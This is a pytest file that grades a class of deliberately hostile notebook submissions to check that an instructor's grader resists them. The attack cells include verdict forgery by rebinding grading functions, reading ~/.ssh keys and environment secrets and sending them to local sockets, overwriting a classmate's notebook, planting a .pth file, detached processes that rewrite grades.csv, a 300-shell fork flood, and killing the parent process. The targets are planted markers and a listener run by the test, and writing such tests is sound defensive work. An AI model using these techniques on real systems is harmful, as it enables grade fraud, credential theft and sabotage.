"""Hostile submissions: each notebook below is one attack an instructor's grader must refuse
(issue 16). All of them are harmless and confined to temporary folders: the "secrets" are
planted markers (a fake ``~/.ssh`` key, an environment variable, a classmate's notebook, a
sentence of the repository's solutions), the "network" is a socket this test listens on,
and the ``.pth`` a submission tries to drop into the virtual environment holds only a comment.

The whole class is graded once, as an instructor would, by ``python -m experiments grade``
in a subprocess (two notebooks at a time, the checks' full feedback, so that anything an
answer smuggles out would show in the CSV), with ``HOME`` pointing at a planted home and a
secret in the environment; the one notebook whose kernel never answers is graded beside it
under a short limit, and the JSON run at the same time. Then each test reads what happened
to its attack.

Expectations come from the issue's rules, not from the grader: a forged notebook scores 0 on
what it did not answer, nothing outside the submission's scratch copy changes, no process of
a submission outlives ``grade``, no secret reaches the CSV, the JSON or the network, and every
submission has a row.
"""
from __future__ import annotations

import csv
import hashlib
import importlib.util
import io
import json
import os
import socket
import subprocess
import sys
import sysconfig
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parent.parent
spec = importlib.util.spec_from_file_location("student_edition", ROOT / "scripts" / "student_edition.py")
student_edition = importlib.util.module_from_spec(spec)
spec.loader.exec_module(student_edition)

pytestmark = pytest.mark.slow

SECRET_ENV = "MEMLAB_HOSTILE_SECRET"
SECRET = "env-secret-7f3c9a1d"
SSH_KEY = "ssh-key-marker-2b8e6f40"
CLASSMATE = "classmate-marker-91d4c7e2"
MARKER = "memlab-hostile-proc-5e1a"   # in the command line of every process an attack leaves behind
PTH = "memlab_hostile_test.pth"
# A sentence only the repository's solutions hold (chapter 1, exercise 1.1).
SOLUTION = "An 8 MiB request is between 1 and 10 MiB, so a new segment for"
CHAPTERS = {1: "ch1_caching_allocator.ipynb", 2: "ch2_cross_stream.ipynb", 3: "ch3_pinned_memory.ipynb",
            4: "ch4_hidden_syncs.ipynb"}
# Notebooks that end get the grader's default limit, so that a loaded machine times none of them
# out; the one whose kernel never answers (huge_cell) is graded beside the class, alone, with a
# limit that only has to cover its first three exercises: the class waits for no time limit.
TIMEOUT_S = 600
ENDLESS_S = 90
ENDLESS = {"huge_cell"}


def _student(tmp: Path, chapter: int) -> nbformat.NotebookNode:
    """The handed-out notebook of a chapter, trimmed to its set-up, import and check cells."""
    out = tmp / "handed-out"
    if not out.exists():
        student_edition.write_notebooks(out)
    nb = nbformat.read(out / CHAPTERS[chapter], as_version=4)
    code = [c for c in nb.cells if c.cell_type == "code"]
    keep = {id(c) for c in code[:2]} | {id(c) for c in code if c.metadata.get("exercise")}
    nb.cells = [c for c in nb.cells if c.cell_type == "markdown" or id(c) in keep]
    return nb


def _cell(nb, label):
    [cell] = [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("exercise") == label]
    return cell


def _after_imports(nb, source):
    """Insert a code cell right after the notebook's import cell (the second code cell)."""
    code = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
    nb.cells.insert(code[1] + 1, nbformat.v4.new_code_cell(textwrap.dedent(source)))
    return nb


def _answer(nb, label, old, new):
    cell = _cell(nb, label)
    assert old in cell.source, (label, old)
    cell.source = cell.source.replace(old, new)
    return nb


RIGHT_CH3 = [("ex-pinned-guard", 'answer = None', 'answer = "c"'),
             ("ex-pinned-rounding", "answer_gib = None", "answer_gib = 4"),
             ("ex-pinned-owned", "after_e = None", "after_e = 18"),
             ("ex-pinned-owned", "after_device_empty_cache = None", "after_device_empty_cache = 18.0"),
             ("ex-pinned-graph", "answer_value = None", "answer_value = 3.0")]


def _right_ch3(tmp):
    nb = _student(tmp, 3)
    for edit in RIGHT_CH3:
        _answer(nb, *edit)
    return nb


# ----------------------------------------------------------------------------- the attacks

# Forged verdicts. The payload a forger sends in place of an answer: a "function" whose code,
# wherever the grader runs it, prints a verdict line in every format the grader has used and
# exits before the real check runs. Then every route an answer takes is rebound to send it.
FORGED_CODE = textwrap.dedent('''
    import json as _j, os as _o, sys as _s
    _verdict = {"correct": True, "message": "correct", "wrong_parts": [], "status": "correct", "score": 99}
    for _line in ("MEMLAB-GRADE-RESULT " + _j.dumps(_verdict), _j.dumps({"report": _verdict, **_verdict}),
                  _j.dumps({"event": "report", "report": _verdict})):
        for _fd in range(1, 16):
            try:
                _o.write(_fd, (_line + "\\n").encode())
            except OSError:
                pass
    _o._exit(0)
''')

FORGED_SOURCE = FORGED_CODE + "\ndef forged(*args, **kwargs):\n    return None\n"

FORGE_CAPTURE = f'''
import json, sys
from IPython import get_ipython
from IPython.display import display

FORGED_SOURCE = {FORGED_SOURCE!r}
OLD = {{"$": "function", "name": "forged", "source": FORGED_SOURCE, "globals": {{}}}}
NEW = {{"function": {{"name": "forged", "source": FORGED_SOURCE, "globals": {{}}}}}}

def forged_capture(label, thunks, *args, **kwargs):
    for mime in ("application/vnd.cuda-memlab.answers+json",):
        display({{mime: {{"label": label, "answers": {{k: {{"value": OLD}} for k in thunks}}}}}}, raw=True)
        display({{mime: json.dumps({{"label": label, "answers": {{k: NEW for k in thunks}}}})}}, raw=True)

def rebind(*_):
    g = get_ipython().user_ns
    for name in list(g):
        if "capture" in name and callable(g[name]):
            g[name] = forged_capture
    for mod in list(sys.modules.values()):
        if mod is not None and "grading" in getattr(mod, "__name__", "") and hasattr(mod, "capture"):
            try:
                mod.capture = forged_capture
            except Exception:
                pass

get_ipython().events.register("pre_run_cell", rebind)
get_ipython().events.register("post_run_cell", rebind)
'''


def forge_capture(tmp, chapter):
    """Issue: one extra cell rebinds the capture function and sends a 'function' answer whose
    code prints its own verdict; every exercise scorable without a GPU came out correct."""
    return _after_imports(_student(tmp, chapter), FORGE_CAPTURE)


def forge_function_answer(tmp):
    """Issue: a legitimate function answer (exercise 1.3's fragmentation index) prints a
    verdict and exits from inside the check."""
    nb = _student(tmp, 1)
    cell = _cell(nb, "ex-alloc-frag-index")
    # In the student's own kernel it answers like anyone who has not solved it; wherever
    # else it runs (where the grader scores it) it forges.
    body = textwrap.indent("import sys\nif 'ipykernel' in sys.modules:\n    return 0.0\n" + FORGED_CODE, "    ")
    cell.source = f"def frag_index(segments):\n{body}\n\nal.check_frag_index(frag_index)\n"
    return nb


def forge_encoder(tmp):
    """Issue: patching the answer encoder (and the JSON packer) turns a wrong answer into 'correct'."""
    nb = _answer(_student(tmp, 3), "ex-pinned-guard", 'answer = None', 'answer = "b"')  # wrong
    return _after_imports(nb, FORGE_CAPTURE.replace('get_ipython().events.register("pre_run_cell", rebind)', '') + '''
import json as _json
_dumps = _json.dumps
def _packed(obj, *a, **k):
    text = _dumps(obj, *a, **k)
    if "cuda-memlab" in text or '"answers"' in text:
        text = text.replace('"b"', _dumps(OLD)).replace('"value": "b"', '"value": ' + _dumps(OLD))
    return text
_json.dumps = _packed
for mod in list(sys.modules.values()):
    if mod is not None and "grading" in getattr(mod, "__name__", "") and hasattr(mod, "encode"):
        mod.encode = lambda value, *a, **k: OLD
    if mod is not None and "grading" in getattr(mod, "__name__", "") and hasattr(mod, "to_plain"):
        mod.to_plain = lambda value, *a, **k: "c"
''')


def forge_display(tmp):
    """Issue: the answer expression itself displays a fake answer while the grader evaluates it
    (and then answers wrong)."""
    nb = _student(tmp, 3)
    cell = _cell(nb, "ex-pinned-guard")
    cell.source = cell.source.replace('answer = None  # your letter, e.g. "a"', textwrap.dedent(f'''
        import json
        from IPython.display import display
        FORGED_SOURCE = {FORGED_SOURCE!r}
        def show_fake():
            for label in ("ex-pinned-guard", "ex-pinned-rounding", "ex-pinned-owned", "ex-pinned-graph"):
                names = ("answer", "answer_gib", "after_e", "after_device_empty_cache", "answer_value")
                old = {{"$": "function", "name": "forged", "source": FORGED_SOURCE, "globals": {{}}}}
                new = {{"function": {{"name": "forged", "source": FORGED_SOURCE, "globals": {{}}}}}}
                for payload in ({{"label": label, "answers": {{k: {{"value": old}} for k in names}}}},
                                {{"label": label, "answers": {{k: new for k in names}}}}):
                    display({{"application/vnd.cuda-memlab.answers+json": payload}}, raw=True)
                    display({{"application/vnd.cuda-memlab.answers+json": json.dumps(payload)}}, raw=True)
            return "b"''')).replace("pinned.check_overwrite_guard(answer)", "pinned.check_overwrite_guard(show_fake())")
    return nb


def _exfiltrate(paths_expr: str) -> str:
    """A cell that reads what it should not and puts it everywhere an answer can go: printed,
    in the answers (with full feedback they echo into the CSV), and onto two local sockets."""
    return f'''
import os, socket
found = []
for p in {paths_expr}:
    try:
        with open(os.path.expanduser(p)) as f:
            found.append(f.read()[:300])
    except Exception as e:
        found.append("could not read " + type(e).__name__)
found.append(os.environ.get("{SECRET_ENV}", "no env secret"))
loot = " | ".join(found)
print(loot)
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, UNIX_PATH)):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(loot.encode())
        s.close()
    except Exception as e:
        print("no network:", type(e).__name__)
'''


def exfiltrate(tmp, env):
    """Issue: a submission read ~/.ssh, an environment secret, the repository's solutions and a
    classmate's notebook, and put them into grades.csv and onto a local socket."""
    paths = repr(["~/.ssh/id_rsa", str(ROOT / "book" / "src" / "ch1_caching_allocator.py"),
                  str(env["class"] / "b_victim.ipynb")])
    code = _exfiltrate(paths).replace("PORT", str(env["port"])).replace("UNIX_PATH", repr(str(env["unix"])))
    nb = _after_imports(_student(tmp, 3), code)
    # the loot as every answer: a non-option string echoes into the feedback
    for label, old in (("ex-pinned-guard", 'answer = None'), ("ex-pinned-rounding", "answer_gib = None"),
                       ("ex-pinned-graph", "answer_value = None")):
        _answer(nb, label, old, old.replace("None", "loot[loot.find('marker') - 40:][:200] + loot[-200:]"))
    return nb


def overwrite_classmate(tmp, env):
    """Issue: a submission rewrote a classmate's notebook before it was graded (their point lost)."""
    blank = nbformat.writes(_student(tmp, 3))
    return _after_imports(_student(tmp, 3), f'''
for target in {[str(env["class"] / "b_victim.ipynb")]!r}:
    try:
        with open(target, "w") as f:
            f.write({blank!r})
        print("overwrote", target)
    except Exception as e:
        print("could not overwrite:", type(e).__name__)
''')


def drop_pth(tmp, env):
    """Issue: a submission dropped a .pth into the virtual environment (it runs in every later Python)."""
    return _after_imports(_student(tmp, 3), f'''
import sysconfig
for where in {[str(env["site"])]!r} + [sysconfig.get_paths()["purelib"]]:
    try:
        with open(where + "/{PTH}", "w") as f:
            f.write("# a harmless marker of the hostile grading test\\n")
        print("dropped a .pth into", where)
    except Exception as e:
        print("could not write", where, type(e).__name__)
''')


def outlive_grade(tmp, env):
    """Issue: a detached process rewrote grades.csv after `grade` exited (0/11 became 11/11)."""
    csv_path = str(env["csv"])
    waiter = (f"import os, time  # {MARKER}\n"
              f"for _ in range(600):\n"
              f"    if os.path.exists({csv_path!r}):\n"
              f"        time.sleep(1)\n"
              f"        open({csv_path!r}, 'w').write('forged after grade')\n"
              f"        break\n"
              f"    time.sleep(0.5)\n")
    return _after_imports(_student(tmp, 3), f'''
import subprocess, sys
for argv in ([sys.executable, "-c", {waiter!r}],
             ["sh", "-c", "while [ ! -e {csv_path} ]; do sleep 0.5; done; sleep 1; echo forged > {csv_path} # {MARKER}"]):
    try:
        subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception as e:
        print("could not start:", type(e).__name__)
''')


def allocate_4gib(tmp):
    """Issue: a 4 GiB allocation succeeded (no memory limit)."""
    nb = _right_ch3(tmp)
    cell = _cell(nb, "ex-pinned-rounding")
    cell.source = "hog = bytearray(4 << 30)\nhog[::4096] = b'x' * len(hog[::4096])\n" + cell.source
    return nb


def flood_output(tmp):
    """Issue: 500 MB of output took the grader to 874 MB (no output limit)."""
    nb = _right_ch3(tmp)
    cell = _cell(nb, "ex-pinned-owned")
    cell.source = "for _ in range(50):\n    print('x' * 10_000_000)\n" + cell.source
    return nb


def fork_many(tmp):
    """No process limit: a submission starts 300 shells that each wait on a sleep (600 processes)."""
    return _after_imports(_right_ch3(tmp), f'''
import subprocess
started = []
for _ in range(300):
    try:
        started.append(subprocess.Popen(["sh", "-c", "sleep 600; : {MARKER}"], start_new_session=True))
    except Exception as e:
        print("stopped after", len(started), type(e).__name__)
        break
''')


def malformed_capture(tmp):
    """Issue: malformed capture data stopped grading for the class (a traceback)."""
    return _after_imports(_right_ch3(tmp), '''
from IPython import get_ipython
from IPython.display import display
import sys
def broken(label, *a, **k):
    mime = "application/vnd.cuda-memlab.answers+json"
    for payload in ("{not json", "[1, 2]", {"label": label, "answers": [1, 2]},
                    {"label": label, "answers": {"answer": {"value": {"$": "dict", "v": [[1]]}}}},
                    {"label": label, "answers": {"answer": {}}}):
        display({mime: payload}, raw=True)
def rebind(*_):
    g = get_ipython().user_ns
    for name in list(g):
        if "capture" in name and callable(g[name]):
            g[name] = broken
    for mod in list(sys.modules.values()):
        if mod is not None and "grading" in getattr(mod, "__name__", "") and hasattr(mod, "capture"):
            mod.capture = broken
get_ipython().events.register("pre_run_cell", rebind)
''')


def huge_cell(tmp):
    """Issue: a 100-400 KB cell made the grader's ast.parse raise and stopped grading for the
    class. Here exercise 3.4's check cell starts with 40 KB of `1+1+...` (Python's parser
    raises RecursionError on it; so does IPython in the kernel, which then never answers),
    and a 200 KB cell follows."""
    nb = _right_ch3(tmp)
    cell = _cell(nb, "ex-pinned-graph")
    cell.source = "y = " + "1+" * 20_000 + "1\n" + cell.source
    nb.cells.insert(nb.cells.index(cell) + 1, nbformat.v4.new_code_cell("x = " + "1+" * 100_000 + "1"))
    return nb


def kill_parent(tmp):
    """Issue: os.kill(os.getppid(), 9) stopped grading for the class."""
    nb = _right_ch3(tmp)
    _cell(nb, "ex-pinned-owned").source = "import os\nos.kill(os.getppid(), 9)\n" + _cell(nb, "ex-pinned-owned").source
    return nb


ATTACKS = {
    # name: (builder, whether it takes env)
    "forge_capture_ch1": (lambda t, e: forge_capture(t, 1)),
    "forge_capture_ch2": (lambda t, e: forge_capture(t, 2)),
    "forge_capture_ch3": (lambda t, e: forge_capture(t, 3)),
    "forge_capture_ch4": (lambda t, e: forge_capture(t, 4)),
    "forge_function_answer": (lambda t, e: forge_function_answer(t)),
    "forge_encoder": (lambda t, e: forge_encoder(t)),
    "forge_display": (lambda t, e: forge_display(t)),
    "a_exfiltrate": exfiltrate,          # graded before the victim (b_...)
    "a_overwrite_classmate": overwrite_classmate,
    "drop_pth": drop_pth,
    "outlive_grade": outlive_grade,
    "allocate_4gib": (lambda t, e: allocate_4gib(t)),
    "flood_output": (lambda t, e: flood_output(t)),
    "fork_many": (lambda t, e: fork_many(t)),
    "malformed_capture": (lambda t, e: malformed_capture(t)),
    "huge_cell": (lambda t, e: huge_cell(t)),
    "kill_parent": (lambda t, e: kill_parent(t)),
}


class _Listener:
    """A TCP and a Unix socket on this machine, recording whatever a submission sends."""

    def __init__(self, unix_path: Path):
        self.received: list[bytes] = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(str(unix_path))
        os.chmod(unix_path, 0o777)
        self.unix.listen()
        for s in (self.tcp, self.unix):
            threading.Thread(target=self._serve, args=(s,), daemon=True).start()

    def _serve(self, s):
        while True:
            try:
                conn, _ = s.accept()
            except OSError:
                return
            conn.settimeout(5)
            try:
                self.received.append(conn.recv(1 << 16))
            except OSError:
                pass
            conn.close()

    def close(self):
        self.tcp.close()
        self.unix.close()


def _processes_with(marker: str) -> list[str]:
    out = []
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                cmd = (p / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if marker in cmd and str(os.getpid()) != p.name:
                out.append(f"{p.name}: {cmd[:120]}")
    return out


def _tree_digest(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The hostile class, graded once: {'rows': {notebook stem: [row dicts]}, 'text': everything
    the grader wrote (CSV, JSON, stdout, stderr), ...}."""
    tmp = tmp_path_factory.mktemp("hostile")
    home, klass, course, endless = tmp / "home", tmp / "class", tmp / "course", tmp / "endless"
    for d in (home / ".ssh", klass, course, endless):
        d.mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN FAKE KEY----- {SSH_KEY} marker -----END FAKE KEY-----\n")
    listener = _Listener(tmp / "sock")
    env = {"class": klass, "port": listener.port, "unix": tmp / "sock", "csv": course / "grades.csv",
           "site": Path(sysconfig.get_paths()["purelib"])}
    notebooks = {name: build(tmp, env) for name, build in ATTACKS.items()}
    victim = _right_ch3(tmp)
    victim.cells.insert(0, nbformat.v4.new_markdown_cell(f"My notes: {CLASSMATE} marker"))
    notebooks["b_victim"] = victim
    notebooks["right_ch3"] = _right_ch3(tmp)
    for name, nb in notebooks.items():
        nbformat.write(nb, (endless if name in ENDLESS else klass) / f"{name}.ipynb")
    (klass / "unreadable.ipynb").write_bytes(b"\xff\xfe{ not a notebook")
    (klass / "dangling.ipynb").symlink_to(tmp / "nowhere.ipynb")
    os.mkfifo(klass / "fifo.ipynb")
    (klass / "huge.ipynb").write_text(json.dumps(nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("x = 1\n" * 4_200_000)])))  # 25 MB
    victim_before = (klass / "b_victim.ipynb").read_bytes()
    repo_before = _tree_digest(ROOT / "experiments")
    site_before = sorted(p.name for p in env["site"].iterdir())

    child_env = {k: v for k, v in os.environ.items() if k not in ("CUDA_MEMLAB_MODE",)}
    child_env.update(HOME=str(home), **{SECRET_ENV: SECRET})
    # VmHWM, not ru_maxrss: execve keeps the forking process's peak in ru_maxrss, so inside a long
    # test session it reported pytest's memory (626 MB in one run), not the grader's.
    wrapper = ("import sys\nfrom experiments.core.cli import main\nrc = main(sys.argv[1:])\n"
               "print('MAXRSS_KB', next(l for l in open('/proc/self/status') if l.startswith('VmHWM:')).split()[1],\n"
               "      file=sys.stderr)\n"
               "sys.exit(rc)\n")
    endless_csv = course / "endless.csv"
    commands = {  # three grading runs at once: the class two at a time, the endless one, the JSON
        "class": [sys.executable, "-c", wrapper, "grade", str(klass), "--out", str(env["csv"]),
                  "--timeout", str(TIMEOUT_S), "--jobs", "2", "--feedback", "full"],
        "endless": [sys.executable, "-m", "experiments", "grade", str(endless), "--out", str(endless_csv),
                    "--timeout", str(ENDLESS_S), "--feedback", "full"],
        "json": [sys.executable, "-m", "experiments", "grade", str(klass / "a_exfiltrate.ipynb"),
                 "--json", "--timeout", str(TIMEOUT_S), "--feedback", "full"]}
    t0 = time.perf_counter()
    runs = {k: _Run(cmd, tmp / f"{k}.out", tmp / f"{k}.err", cwd=course, env=child_env) for k, cmd in commands.items()}
    try:
        proc, endless_proc, json_proc = (runs[k].wait(1800) for k in ("class", "endless", "json"))
    finally:
        for run in runs.values():  # a run past its limit: none is left behind
            if run.popen.poll() is None:
                run.popen.kill()
    elapsed = time.perf_counter() - t0
    csv_text = env["csv"].read_text() if env["csv"].exists() else ""
    time.sleep(3)  # a detached writer would strike 1-1.5 s after grades.csv appears
    csv_after = env["csv"].read_text() if env["csv"].exists() else ""
    endless_text = endless_csv.read_text() if endless_csv.exists() else ""
    leftovers = _processes_with(MARKER)
    pth_found = [str(p) for p in (env["site"] / PTH,) if p.exists()]
    for p in pth_found:  # harmless, but leave nothing behind in the environment
        Path(p).unlink()
    for line in leftovers:
        try:
            os.kill(int(line.split(":")[0]), 9)
        except OSError:
            pass
    listener.close()
    rows: dict[str, list[dict]] = {}
    for text in (csv_text, endless_text):
        for r in csv.DictReader(io.StringIO(text)):
            rows.setdefault(Path(r["notebook"]).stem, []).append(r)
    maxrss = [int(line.split()[1]) for line in proc.stderr.splitlines() if line.startswith("MAXRSS_KB")]
    print(f"\ngraded the hostile class ({len(notebooks) + 4} submissions) in {elapsed:.0f} s, two at a time "
          f"and {sorted(ENDLESS)} beside them\n" + proc.stderr[-3000:] + "\n" + endless_proc.stderr[-1000:] + "\n"
          + csv_text + endless_text)
    return {"proc": proc, "endless": endless_proc, "rows": rows, "csv": csv_text, "csv_after": csv_after,
            "json": json_proc, "text": (csv_text + endless_text + proc.stdout + proc.stderr + endless_proc.stdout
                                        + endless_proc.stderr + json_proc.stdout + json_proc.stderr),
            "received": listener.received, "leftovers": leftovers, "pth": pth_found, "elapsed": elapsed,
            "victim_before": victim_before, "victim_after": (klass / "b_victim.ipynb").read_bytes(),
            "repo_changed": repo_before != _tree_digest(ROOT / "experiments"),
            "site_new": sorted(set(p.name for p in env["site"].iterdir()) - set(site_before)),
            "maxrss_kb": maxrss[0] if maxrss else None, "names": set(notebooks) | {"unreadable", "dangling",
                                                                                 "fifo", "huge"}}


class _Run:
    """A command run with its output in files (three at once: no pipe fills while another is read)."""

    def __init__(self, argv, out: Path, err: Path, **kw):
        self.argv, self.out_path, self.err_path = argv, out, err
        with open(out, "w") as o, open(err, "w") as e:
            self.popen = subprocess.Popen(argv, stdout=o, stderr=e, stdin=subprocess.DEVNULL, text=True, **kw)

    def wait(self, timeout: float) -> subprocess.CompletedProcess:
        try:
            rc = self.popen.wait(timeout)
        except subprocess.TimeoutExpired:
            self.popen.kill()
            raise
        return subprocess.CompletedProcess(self.argv, rc, self.out_path.read_text(), self.err_path.read_text())


def _table(rows):
    return [(r["exercise"], float(r["score"]), float(r["max_score"]), r["status"]) for r in rows]


def _scores(rows):
    return {r["exercise"]: float(r["score"]) for r in rows if r["exercise"] != "total"}


def test_the_class_is_graded_and_every_submission_has_a_row(hostile):
    for proc in (hostile["proc"], hostile["endless"]):
        assert proc.returncode == 0, proc.stderr[-2000:]
    assert hostile["csv"], "no CSV was written"
    missing = hostile["names"] - set(hostile["rows"])
    assert not missing, f"submissions without a row: {sorted(missing)}"
    for name, rows in hostile["rows"].items():
        assert rows[-1]["exercise"] == "total", name


@pytest.mark.parametrize("name", ["forge_capture_ch1", "forge_capture_ch2", "forge_capture_ch3",
                                  "forge_capture_ch4", "forge_function_answer", "forge_encoder",
                                  "forge_display"])
def test_a_forged_verdict_scores_nothing(hostile, name):
    rows = hostile["rows"][name]
    scores = _scores(rows)
    # Nothing was answered in these notebooks, except exercise 3.1's wrong "b" in forge_encoder
    # and forge_display, and the forged function of exercise 1.3: all of them are worth 0.
    assert scores and all(s == 0 for s in scores.values()), _table(rows)
    assert float(rows[-1]["score"]) == 0


def test_secrets_repository_and_classmates_never_reach_the_grades_or_the_network(hostile):
    text = hostile["text"]
    for secret in (SECRET, SSH_KEY, CLASSMATE, SOLUTION[:40]):
        assert secret not in text, f"{secret!r} reached the grader's output"
    got = b"".join(hostile["received"])
    assert not got, f"a submission reached a socket on this machine: {got[:200]!r}"


def test_a_classmates_notebook_is_unchanged_and_graded_right(hostile):
    assert hostile["victim_after"] == hostile["victim_before"]
    assert _table(hostile["rows"]["b_victim"]) == _table(hostile["rows"]["right_ch3"])
    assert float(hostile["rows"]["b_victim"][-1]["score"]) == 5


def test_nothing_outside_the_scratch_copy_changes(hostile):
    assert not hostile["pth"], f"a submission dropped {hostile['pth']}"
    assert not hostile["site_new"], hostile["site_new"]
    assert not hostile["repo_changed"], "a file of the package changed"


def test_no_process_of_a_submission_outlives_grade(hostile):
    assert not hostile["leftovers"], hostile["leftovers"]
    assert hostile["csv_after"] == hostile["csv"], "grades.csv changed after grade exited"


def test_limits_give_a_status_and_the_rest_is_scored(hostile):
    rows = hostile["rows"]
    memory = {r["exercise"]: r["status"] for r in rows["allocate_4gib"]}
    assert memory["ex-pinned-rounding"] == "memory", _table(rows["allocate_4gib"])
    assert memory["ex-pinned-guard"] == memory["ex-pinned-graph"] == "correct"
    flood = {r["exercise"]: r["status"] for r in rows["flood_output"]}
    assert flood["ex-pinned-guard"] == flood["ex-pinned-rounding"] == "correct"
    assert flood["ex-pinned-owned"] == flood["ex-pinned-graph"] == "output limit", _table(rows["flood_output"])
    # the grader never held the flood: its own peak (torch and the recordings included) stays
    # far below the 500 MB printed (today's grader reached 874 MB)
    assert hostile["maxrss_kb"] is not None and hostile["maxrss_kb"] < 600_000, hostile["maxrss_kb"]
    assert _table(rows["fork_many"]) == _table(rows["right_ch3"])


def test_a_submission_that_breaks_the_grader_costs_only_its_own_points(hostile):
    rows = hostile["rows"]
    huge = {r["exercise"]: r for r in rows["huge_cell"]}
    assert [huge[e]["status"] for e in ("ex-pinned-guard", "ex-pinned-rounding", "ex-pinned-owned")] == ["correct"] * 3
    assert huge["ex-pinned-graph"]["status"] == "error" and "does not parse" in huge["ex-pinned-graph"]["feedback"]
    killed = {r["exercise"]: r["status"] for r in rows["kill_parent"]}
    assert killed["ex-pinned-guard"] == killed["ex-pinned-rounding"] == "correct", _table(rows["kill_parent"])
    assert killed["ex-pinned-owned"] == killed["ex-pinned-graph"] == "killed"
    broken = _table(rows["malformed_capture"])
    assert [s for e, _, _, s in broken if e != "total" and e != "ex-pinned-loader"] == ["error"] * 4, broken
    for name in ("unreadable", "dangling", "fifo", "huge"):
        [row] = rows[name]
        assert (row["exercise"], row["status"], float(row["score"])) == ("total", "unreadable", 0), row
    assert "larger than" in rows["huge"][0]["feedback"]


def test_the_json_is_complete_and_holds_no_secret(hostile):
    proc = hostile["json"]
    assert proc.returncode == 0, proc.stderr[-2000:]
    data = json.loads(proc.stdout)
    assert data and data[-1]["exercise"] == "total"
